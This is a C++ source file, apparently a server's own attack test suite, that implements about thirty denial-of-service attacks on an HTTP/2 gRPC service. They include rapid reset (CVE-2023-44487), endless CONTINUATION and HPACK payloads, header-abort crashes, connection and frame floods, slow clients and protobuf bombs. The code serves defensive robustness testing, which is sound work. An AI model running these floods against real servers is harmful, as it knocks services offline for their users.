#include "tests/attack/attacks.h"

#include <sys/resource.h>

#include <algorithm>
#include <random>
#include <utility>

#include "absl/strings/str_cat.h"
#include "absl/time/clock.h"
#include "springboard/v1/trampoline_compiler.pb.h"
#include "tests/attack/connection.h"
#include "tests/attack/http2.h"

namespace springboard {
namespace {

using http2::Field;
using http2::Frame;
using http2::Hello;

constexpr char kCompile[] = "/springboard.v1.TrampolineCompiler/CompileTrampoline";
constexpr char kBatch[] = "/springboard.v1.TrampolineCompiler/BatchCompileTrampolines";
constexpr int kMaxConnections = 20000;

// Does it with one new connection after the other.
template <typename Act>
int Repeat(const std::string& address, absl::Time until, const Act& act) {
  int connections = 0;
  while (absl::Now() < until && connections < kMaxConnections) {
    Connection connection(address);
    if (!connection.is_open()) {
      // The server has died, and is to have time to come back.
      absl::SleepFor(absl::Milliseconds(5));
      continue;
    }
    ++connections;
    act(connection);
  }
  return connections;
}

// Opens so many connections, does it with each, and holds them.
template <typename Act>
int Hold(const std::string& address, int count, absl::Time until, const Act& act) {
  std::vector<Connection> held;
  while (static_cast<int>(held.size()) < count && absl::Now() < until) {
    Connection connection(address);
    if (!connection.is_open()) {
      absl::SleepFor(absl::Milliseconds(5));
      continue;
    }
    act(connection);
    held.push_back(std::move(connection));
  }
  absl::SleepFor(until - absl::Now());
  return static_cast<int>(held.size());
}

// Sends `bytes` again and again on one connection, and on the next when the server hangs up.
template <typename MakeBytes>
int Flood(const std::string& address, absl::Time until, const std::string& hello,
          const MakeBytes& make_bytes) {
  return Repeat(address, until, [&](Connection& connection) {
    if (!connection.Send(hello)) return;
    for (uint32_t i = 0; absl::Now() < until; ++i) {
      if (!connection.Send(make_bytes(i))) return;
      connection.Drop(absl::ZeroDuration());
    }
  });
}

uint32_t Stream(uint32_t index) { return 2 * index + 1; }

std::string RandomBytes(std::mt19937& random, size_t size) {
  std::string bytes;
  for (size_t i = 0; i < size; ++i) bytes.push_back(static_cast<char>(random()));
  return bytes;
}

// A call whose header block is this besides the usual fields.
std::string CallWith(absl::string_view fields) {
  return Frame(http2::kHeaders, http2::kEndHeaders, 1,
               absl::StrCat(http2::CallFields(kCompile), fields));
}

// Header fields in as many frames as they take.
std::string HeadersInParts(uint32_t stream, absl::string_view block) {
  constexpr size_t kPart = 16000;
  std::string bytes;
  for (uint8_t type = http2::kHeaders; !block.empty(); type = http2::kContinuation) {
    const size_t size = std::min(block.size(), kPart);
    bytes +=
        Frame(type, size == block.size() ? http2::kEndHeaders : 0, stream, block.substr(0, size));
    block.remove_prefix(size);
  }
  return bytes;
}

std::string TlsClientHello(std::mt19937& random) {
  // A record and a handshake header that are right, around what is not.
  const std::string body = RandomBytes(random, 200);
  return absl::StrCat("\x16\x03\x01", std::string("\0\xcc\x01\0\0\xc8", 6), body);
}

int Garbage(const AttackedServer& server, absl::Time until) {
  std::mt19937 random(1);
  return Repeat(server.plain, until, [&](Connection& connection) {
    std::string bytes = random() % 2 == 0 ? "" : Hello();
    bytes += RandomBytes(random, random() % 4000);
    connection.Send(bytes);
    connection.Drop(absl::Milliseconds(2));
  });
}

// Frames whose headers are right, of all types, with random contents.
int RandomFrames(const AttackedServer& server, absl::Time until) {
  std::mt19937 random(2);
  return Repeat(server.plain, until, [&](Connection& connection) {
    std::string bytes = Hello();
    for (auto left = 1 + random() % 20; left > 0; --left) {
      bytes += Frame(static_cast<uint8_t>(random() % 11), static_cast<uint8_t>(random()),
                     static_cast<uint32_t>(random() % 8), RandomBytes(random, random() % 200));
    }
    connection.Send(bytes);
    connection.Drop(absl::Milliseconds(2));
  });
}

int HalfFrames(const AttackedServer& server, absl::Time until) {
  std::mt19937 random(3);
  const std::string whole = Hello() + http2::Call(1, kCompile, std::string(500, '\x0a'));
  return Repeat(server.plain, until, [&](Connection& connection) {
    connection.Send(absl::string_view(whole).substr(0, random() % whole.size()));
    if (random() % 4 == 0) connection.Drop(absl::Milliseconds(5));
  });
}

int OversizedFrames(const AttackedServer& server, absl::Time until) {
  std::mt19937 random(4);
  return Repeat(server.plain, until, [&](Connection& connection) {
    constexpr int64_t kLargest = (1 << 24) - 1;
    const auto type = static_cast<uint8_t>(random() % 10);
    connection.Send(absl::StrCat(Hello(), Frame(type, 0, type % 2, "", kLargest)));
    connection.Send(std::string(1 << 20, 'x'), absl::Milliseconds(100));
  });
}

// Messages whose prefix says 4 GiB.
int OversizedMessages(const AttackedServer& server, absl::Time until) {
  return Repeat(server.plain, until, [&](Connection& connection) {
    std::string bytes = Hello();
    for (uint32_t i = 0; i < 20; ++i) {
      bytes += Frame(http2::kHeaders, http2::kEndHeaders, Stream(i), http2::CallFields(kCompile));
      bytes += Frame(http2::kData, 0, Stream(i),
                     absl::StrCat(absl::string_view("\0", 1), http2::Number32(UINT32_MAX),
                                  std::string(1000, 'x')));
    }
    connection.Send(bytes);
    connection.Drop(absl::Milliseconds(5));
  });
}

// Calls whose messages never end: each holds what has come of it.
int UnfinishedMessages(const AttackedServer& server, absl::Time until) {
  const std::string half = http2::Message(std::string(4 << 20, 'x')).substr(0, 60000);
  return Hold(server.plain, 50, until, [&](Connection& connection) {
    connection.Send(Hello());
    for (uint32_t i = 0; i < 100; ++i) {
      std::string bytes =
          Frame(http2::kHeaders, http2::kEndHeaders, Stream(i), http2::CallFields(kBatch));
      for (size_t at = 0; at < half.size(); at += 15000) {
        bytes += Frame(http2::kData, 0, Stream(i), half.substr(at, 15000));
      }
      if (!connection.Send(bytes, absl::Milliseconds(50))) return;
    }
  });
}

int Http1(const AttackedServer& server, absl::Time until) {
  return Repeat(server.plain, until, [](Connection& connection) {
    connection.Send("GET / HTTP/1.1\r\nHost: x\r\nUpgrade: h2c\r\n\r\n" + std::string(2000, 'x'));
    connection.Drop(absl::Milliseconds(2));
  });
}

int TlsToPlain(const AttackedServer& server, absl::Time until) {
  std::mt19937 random(5);
  return Repeat(server.plain, until, [&](Connection& connection) {
    connection.Send(TlsClientHello(random));
    connection.Drop(absl::Milliseconds(2));
  });
}

int PlainToTls(const AttackedServer& server, absl::Time until) {
  const std::string call = Hello() + http2::Call(1, kCompile, "");
  return Repeat(server.tls, until, [&](Connection& connection) {
    connection.Send(call);
    connection.Drop(absl::Milliseconds(2));
  });
}

int BrokenTls(const AttackedServer& server, absl::Time until) {
  std::mt19937 random(6);
  return Repeat(server.tls, until, [&](Connection& connection) {
    const std::string hello = TlsClientHello(random);
    connection.Send(random() % 2 == 0 ? hello : hello.substr(0, random() % hello.size()));
    connection.Drop(absl::Milliseconds(2));
  });
}

int SilentConnections(const AttackedServer& server, absl::Time until) {
  return Hold(server.plain, 2000, until, [](Connection& /*connection*/) {});
}

int SilentTls(const AttackedServer& server, absl::Time until) {
  return Hold(server.tls, 500, until, [](Connection& /*connection*/) {});
}

// More than a process may have descriptors: CVE-2023-4785.
int ConnectionFlood(const AttackedServer& server, absl::Time until) {
  rlimit limit = {};
  getrlimit(RLIMIT_NOFILE, &limit);
  limit.rlim_cur = limit.rlim_max;
  setrlimit(RLIMIT_NOFILE, &limit);
  const auto count = static_cast<int>(std::min<rlim_t>(limit.rlim_max - 200, kMaxConnections));
  return Hold(server.plain, count, until, [](Connection& /*connection*/) {});
}

int SlowPrefaces(const AttackedServer& server, absl::Time until) {
  const std::string hello = Hello();
  std::vector<Connection> held;
  for (int i = 0; i < 200; ++i) held.emplace_back(server.plain);
  for (size_t at = 0; at < hello.size() && absl::Now() < until; ++at) {
    for (Connection& connection : held) connection.Send(hello.substr(at, 1), absl::Milliseconds(1));
    absl::SleepFor(absl::Milliseconds(10));
  }
  absl::SleepFor(until - absl::Now());
  return static_cast<int>(held.size());
}

int LargeHeader(const AttackedServer& server, absl::Time until) {
  return Repeat(server.plain, until, [](Connection& connection) {
    const std::string block =
        absl::StrCat(http2::CallFields(kCompile), Field("x-large", std::string(1 << 20, 'x')));
    connection.Send(Hello() + HeadersInParts(1, block));
    connection.Drop(absl::Milliseconds(5));
  });
}

int ManyHeaders(const AttackedServer& server, absl::Time until) {
  return Repeat(server.plain, until, [](Connection& connection) {
    std::string block = http2::CallFields(kCompile);
    for (int i = 0; i < 20000; ++i) block += Field(absl::StrCat("x-", i), "y");
    connection.Send(Hello() + HeadersInParts(1, block));
    connection.Drop(absl::Milliseconds(5));
  });
}

// A header block that never ends: CVE-2023-33953, per frame.
int EndlessContinuations(const AttackedServer& server, absl::Time until) {
  const std::string part = Frame(http2::kContinuation, 0, 1, Field("a", "1") + Field("b", "2"));
  std::string many;
  for (int i = 0; i < 500; ++i) many += part;
  return Flood(server.plain, until,
               Hello() + Frame(http2::kHeaders, 0, 1, http2::CallFields(kCompile)),
               [&](uint32_t /*i*/) -> absl::string_view { return many; });
}

// An HPACK string of 4 GiB: CVE-2023-33953.
int EndlessHpackString(const AttackedServer& server, absl::Time until) {
  const std::string start = absl::StrCat(http2::CallFields(kCompile), absl::string_view("\0", 1),
                                         http2::HpackInteger(uint64_t{1} << 31, 7, 0));
  const std::string more = Frame(http2::kContinuation, 0, 1, std::string(16000, 'x'));
  return Flood(server.plain, until, Hello() + Frame(http2::kHeaders, 0, 1, start),
               [&](uint32_t /*i*/) -> absl::string_view { return more; });
}

// An HPACK integer with zeros before it, without an end: CVE-2023-33953.
int EndlessHpackInteger(const AttackedServer& server, absl::Time until) {
  const std::string start =
      absl::StrCat(http2::CallFields(kCompile), absl::string_view("\0\x7f", 2));
  const std::string more = Frame(http2::kContinuation, 0, 1, std::string(16000, '\x80'));
  return Flood(server.plain, until, Hello() + Frame(http2::kHeaders, 0, 1, start),
               [&](uint32_t /*i*/) -> absl::string_view { return more; });
}

// Fields that gRPC 1.51 ends the process over, in a header block of more than 8 KB: CVE-2023-1428.
int HeaderThatAborts(const AttackedServer& server, absl::Time until) {
  int number = 0;
  return Repeat(server.plain, until, [&](Connection& connection) {
    const std::string bad[] = {Field("te", "x"), Field(":scheme", "x"),
                               Field("grpclb_client_stats", "x")};
    const std::string block = absl::StrCat(
        Field(":method", "POST"), bad[number++ % 3], Field(":path", kCompile),
        Field(":authority", "localhost"), Field("content-type", "application/grpc"),
        Field("x-long", std::string(9000, 'x')), Field("x-longer", std::string(20000, 'x')));
    connection.Send(Hello() + HeadersInParts(1, block));
    connection.Drop(absl::Milliseconds(20));
  });
}

int HpackTableSizes(const AttackedServer& server, absl::Time until) {
  std::mt19937 random(7);
  return Repeat(server.plain, until, [&](Connection& connection) {
    std::string block;
    for (int i = 0; i < 200; ++i) block += http2::HpackInteger(random(), 5, 0x20);
    // Indexed fields that are not there, and literals that are to be kept.
    for (int i = 0; i < 200; ++i) block += http2::HpackInteger(random() % 10000, 7, 0x80);
    connection.Send(Hello({{1, UINT32_MAX}}) + CallWith("") + HeadersInParts(3, block));
    connection.Drop(absl::Milliseconds(2));
  });
}

// Wrong base64 in a binary field: CVE-2023-32732.
int BrokenBase64(const AttackedServer& server, absl::Time until) {
  return Repeat(server.plain, until, [](Connection& connection) {
    connection.Send(Hello() +
                    CallWith(Field("x-bin", "!!!") + Field("grpc-timeout", "99999999999X") +
                             Field("grpc-encoding", "nonsense")));
    connection.Drop(absl::Milliseconds(2));
  });
}

// CVE-2023-44487.
int RapidReset(const AttackedServer& server, absl::Time until) {
  return Flood(server.plain, until, Hello(), [](uint32_t i) {
    std::string bytes;
    for (uint32_t n = 0; n < 100; ++n) {
      const uint32_t stream = Stream(100 * i + n);
      bytes += Frame(http2::kHeaders, http2::kEndHeaders, stream, http2::CallFields(kCompile));
      bytes += Frame(http2::kRstStream, 0, stream, http2::Number32(8));
    }
    return bytes;
  });
}

// More streams at a time than the server has said that it takes.
int StreamFlood(const AttackedServer& server, absl::Time until) {
  return Flood(server.plain, until, Hello(), [](uint32_t i) {
    std::string bytes;
    for (uint32_t n = 0; n < 100; ++n) {
      bytes += Frame(http2::kHeaders, http2::kEndHeaders, Stream(100 * i + n),
                     http2::CallFields(kCompile));
    }
    return bytes;
  });
}

// The same frames, many of them.
template <uint8_t kType, int kBytes, uint32_t kStream>
int FrameFlood(const AttackedServer& server, absl::Time until) {
  std::string bytes;
  const std::vector<char> payload(kBytes);
  for (int i = 0; i < 500; ++i) {
    bytes += Frame(kType, 0, kStream, absl::string_view(payload.data(), payload.size()));
  }
  return Flood(server.plain, until, Hello() + CallWith(""),
               [&](uint32_t /*i*/) -> absl::string_view { return bytes; });
}

int WindowOverflow(const AttackedServer& server, absl::Time until) {
  return Repeat(server.plain, until, [](Connection& connection) {
    const std::string update = Frame(http2::kWindowUpdate, 0, 0, http2::Number32(0x7FFFFFFF));
    connection.Send(absl::StrCat(Hello({{4, UINT32_MAX}, {5, UINT32_MAX}}), update, update));
    connection.Drop(absl::Milliseconds(2));
  });
}

// Messages of the protocol that take much more than their bytes: nesting, empty items, unknown
// fields.
int ProtobufBombs(const AttackedServer& server, absl::Time until) {
  std::vector<std::pair<const char*, std::string>> bombs;
  // Groups within groups, and messages within messages.
  bombs.emplace_back(kCompile, std::string(1 << 20, '\x7b'));
  std::string nested;
  for (int i = 0; i < 1000; ++i) nested = absl::StrCat("\x0a\x7f", nested.substr(0, 4000));
  bombs.emplace_back(kCompile, nested);
  // 2 million empty requests, signatures; parameters.
  std::string empty;
  for (int i = 0; i < (2 << 20) - 100; ++i) empty.append("\x0a\0", 2);
  bombs.emplace_back(kBatch, empty);
  v1::BatchCompileTrampolinesRequest product;
  for (int i = 0; i < 1000000; ++i) product.mutable_product()->add_signatures();
  bombs.emplace_back(kBatch, product.SerializeAsString());
  v1::CompileTrampolineRequest long_signature;
  for (int i = 0; i < 4000000; ++i) {
    long_signature.mutable_signature()->add_parameters(v1::NATIVE_TYPE_U8);
  }
  bombs.emplace_back(kCompile, long_signature.SerializeAsString());
  // The most work and the longest answer that a small request asks for.
  v1::BatchCompileTrampolinesRequest work;
  v1::Signature* const signature = work.mutable_product()->add_signatures();
  signature->set_result(v1::NATIVE_TYPE_U64);
  for (int i = 0; i < 256; ++i) signature->add_parameters(v1::NATIVE_TYPE_BUFFER);
  for (int i = 0; i < 10000; ++i) work.mutable_product()->add_targets(v1::TARGET_AARCH64_APPLE);
  work.mutable_product()->set_caller_profile(v1::CALLER_PROFILE_V8_10);
  bombs.emplace_back(kBatch, work.SerializeAsString());
  size_t next = 0;
  return Repeat(server.plain, until, [&](Connection& connection) {
    const auto& [method, message] = bombs[next++ % bombs.size()];
    // As much at once as will be taken.
    connection.Send(Hello({{4, 1 << 30}}) +
                        Frame(http2::kWindowUpdate, 0, 0, http2::Number32(1 << 30)) +
                        http2::Call(1, method, message),
                    absl::Seconds(2));
    connection.Drop(absl::Milliseconds(100));
  });
}

// A compressed message, which the server does not take.
int CompressedBombs(const AttackedServer& server, absl::Time until) {
  return Repeat(server.plain, until, [](Connection& connection) {
    connection.Send(Hello() + CallWith(Field("grpc-encoding", "gzip")) +
                    Frame(http2::kData, http2::kEndStream, 1,
                          http2::Message(std::string("\x1f\x8b\x08\0\0\0\0\0\0\3", 10) +
                                             std::string(10000, '\0'),
                                         /*is_compressed=*/true)));
    connection.Drop(absl::Milliseconds(2));
  });
}

// Asks for long answers and does not read them.
int SlowReaders(const AttackedServer& server, absl::Time until) {
  v1::BatchCompileTrampolinesRequest work;
  v1::Signature* const signature = work.mutable_product()->add_signatures();
  signature->set_result(v1::NATIVE_TYPE_U64);
  for (int i = 0; i < 100; ++i) signature->add_parameters(v1::NATIVE_TYPE_U8);
  for (int i = 0; i < 5000; ++i) work.mutable_product()->add_targets(v1::TARGET_X86_64_SYSV);
  work.mutable_product()->set_caller_profile(v1::CALLER_PROFILE_V8_10);
  const std::string message = work.SerializeAsString();
  return Hold(server.plain, 20, until, [&](Connection& connection) {
    connection.Send(Hello({{4, 0}}));
    for (uint32_t i = 0; i < 10; ++i) {
      connection.Send(http2::Call(Stream(i), kBatch, message), absl::Milliseconds(50),
                      /*reads=*/false);
    }
  });
}

}  // namespace

const std::vector<Attack>& AllAttacks() {
  static const auto* const attacks = new std::vector<Attack>{
      {"garbage", &Garbage},
      {"random frames", &RandomFrames},
      {"half frames", &HalfFrames},
      {"oversized frames", &OversizedFrames},
      {"oversized messages", &OversizedMessages},
      {"unfinished messages", &UnfinishedMessages},
      {"HTTP/1", &Http1},
      {"TLS to plaintext", &TlsToPlain},
      {"plaintext to TLS", &PlainToTls, true},
      {"broken TLS", &BrokenTls, true},
      {"silent connections", &SilentConnections},
      {"silent TLS connections", &SilentTls, true},
      {"connection flood (CVE-2023-4785)", &ConnectionFlood},
      {"slow prefaces", &SlowPrefaces},
      {"a header of 1 MB", &LargeHeader},
      {"20,000 headers", &ManyHeaders},
      {"endless CONTINUATION (CVE-2023-33953)", &EndlessContinuations},
      {"endless HPACK string (CVE-2023-33953)", &EndlessHpackString},
      {"endless HPACK integer (CVE-2023-33953)", &EndlessHpackInteger},
      {"headers that abort (CVE-2023-1428)", &HeaderThatAborts},
      {"HPACK table sizes", &HpackTableSizes},
      {"broken base64 (CVE-2023-32732)", &BrokenBase64},
      {"rapid reset (CVE-2023-44487)", &RapidReset},
      {"too many streams", &StreamFlood},
      {"PING flood", &FrameFlood<http2::kPing, 8, 0>},
      {"SETTINGS flood", &FrameFlood<http2::kSettings, 6, 0>},
      {"empty DATA flood", &FrameFlood<http2::kData, 0, 1>},
      {"PRIORITY flood", &FrameFlood<http2::kPriority, 5, 1>},
      {"window overflow", &WindowOverflow},
      {"Protobuf bombs", &ProtobufBombs},
      {"compressed bombs", &CompressedBombs},
      {"slow readers", &SlowReaders},
  };
  return *attacks;
}

}  // namespace springboard
